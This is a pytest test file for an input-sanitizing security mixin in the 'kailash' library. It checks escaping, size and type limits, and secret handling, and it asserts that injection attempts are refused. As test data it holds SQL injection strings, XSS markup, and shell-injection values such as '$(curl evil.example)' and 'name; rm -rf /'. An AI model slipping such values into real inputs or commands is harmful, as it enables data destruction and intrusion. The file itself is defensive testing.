"""SecurityMixin: type and size checks, markup escaping, injection refusal, security events."""

from __future__ import annotations

import json
import logging

import pytest

from kailash.errors import SecurityError
from kailash.nodes.base import Node, NodeParameter
from kailash.nodes.mixins import SecurityMixin
from kailash.security import Secret, SecurityConfig, set_security_config


class EchoNode(SecurityMixin, Node):
    max_string_length = 50
    max_collection_size = 5

    def get_parameters(self):
        return {
            "text": NodeParameter(type=str, required=False),
            "rows": NodeParameter(type=list, required=False),
            "api_key": NodeParameter(required=False, secret=True),
        }

    def run(self, **kwargs):
        return {"clean": self.validate_and_sanitize_inputs(kwargs)}


def test_clean_inputs_pass_unchanged():
    out = EchoNode(name="echo").execute(text="O'Brien & sons", rows=[{"a": 1}, "b"])["clean"]
    assert out["text"] == "O'Brien & sons" and out["rows"] == [{"a": 1}, "b"]


def test_markup_is_escaped_into_inert_text():
    out = EchoNode().execute(text='<img src=x onerror="alert(1)">', rows=["<script>x</script>"])["clean"]
    assert out["text"] == "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;"
    assert out["rows"] == ["&lt;script&gt;x&lt;/script&gt;"]
    assert "javascript&#58;" in EchoNode().execute(text="javascript:alert(1)")["clean"]["text"]


def test_control_characters_are_removed():
    assert EchoNode().execute(text="a\x00b\x07c\td")["clean"]["text"] == "abc\td"


@pytest.mark.parametrize("text, kind", [
    ("' OR '1'='1", "SQL"), ("x'; DROP TABLE users; --", "SQL"), ("1 UNION SELECT password FROM users", "SQL"),
    ("$(curl evil.example)", "shell"), ("name; rm -rf /", "shell"), ("`id`", "shell"),
])
def test_injection_signatures_are_refused_naming_the_parameter(text, kind):
    with pytest.raises(SecurityError, match=f"node 'n' \\(EchoNode\\): input 'text' looks like an? {kind}") as info:
        EchoNode(name="n").execute(text=text)
    assert info.value.parameter == "text"
    assert text not in str(info.value)


def test_nested_values_are_checked_too():
    with pytest.raises(SecurityError, match="input 'rows' looks like an SQL injection"):
        EchoNode().execute(rows=[{"name": "' or 'a'='a"}])


def test_size_limits():
    with pytest.raises(SecurityError, match="60 characters long, over the limit of 50"):
        EchoNode().execute(text="x" * 60)
    with pytest.raises(SecurityError, match="6 items, over the limit of 5"):
        EchoNode().execute(rows=list(range(6)))


def test_declared_types_are_enforced():
    node = EchoNode()
    with pytest.raises(SecurityError, match="input 'rows' expects list, got str"):
        node.validate_and_sanitize_inputs({"rows": "not a list"})


def test_secret_parameters_pass_through_untouched():
    key = Secret("k'; DROP TABLE x; --")
    assert EchoNode().execute(api_key=key)["clean"]["api_key"] is key


def test_injection_checks_can_be_turned_off():
    class Lenient(EchoNode):
        reject_injection = False

    assert Lenient().execute(text="' OR '1'='1")["clean"]["text"] == "' OR '1'='1"


def test_security_events_go_to_the_logger_and_the_audit_log(tmp_path, caplog):
    log = tmp_path / "audit.jsonl"
    set_security_config(SecurityConfig(enable_audit_logging=True, audit_log_path=str(log)))
    node = EchoNode(name="echo", api_key=Secret("k-secret-123456"))
    with caplog.at_level(logging.INFO, logger="kailash.security"):
        record = node.log_security_event("Processing data with k-secret-123456", level="INFO", rows=3)
        with pytest.raises(SecurityError):
            node.execute(text="' OR '1'='1")
    assert record["message"] == "Processing data with ***" and record["node_id"] == "echo"
    events = [json.loads(line) for line in log.read_text().splitlines()]
    assert [e["event"] for e in events] == ["node_security_event", "input_rejected"]
    assert events[0]["level"] == "INFO" and events[0]["rows"] == 3
    assert events[1]["parameter"] == "text" and events[1]["reason"] == "sql_injection"
    assert "k-secret-123456" not in log.read_text() and "OR '1'" not in log.read_text()
    assert any("Processing data with ***" in r.getMessage() for r in caplog.records)


def test_without_audit_logging_events_only_reach_the_logger(tmp_path, caplog):
    with caplog.at_level(logging.INFO, logger="kailash.security"):
        EchoNode(name="e").log_security_event("hello", level="WARNING")
    assert [r.levelname for r in caplog.records if r.name == "kailash.security"] == ["WARNING"]
